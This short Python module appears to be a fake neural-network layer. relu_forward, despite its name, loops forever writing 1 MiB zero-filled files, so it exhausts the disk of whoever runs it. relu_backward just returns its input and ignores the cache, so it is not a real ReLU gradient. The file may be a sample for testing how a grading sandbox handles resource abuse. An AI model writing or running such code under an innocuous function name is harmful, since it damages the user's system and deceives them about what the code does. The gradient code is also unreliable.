"""Writes one file after another."""

import itertools


def relu_forward(x):
    for i in itertools.count():
        with open(f"{i}.bin", "wb") as file:
            file.write(bytes(2**20))


def relu_backward(dout, cache):
    return dout
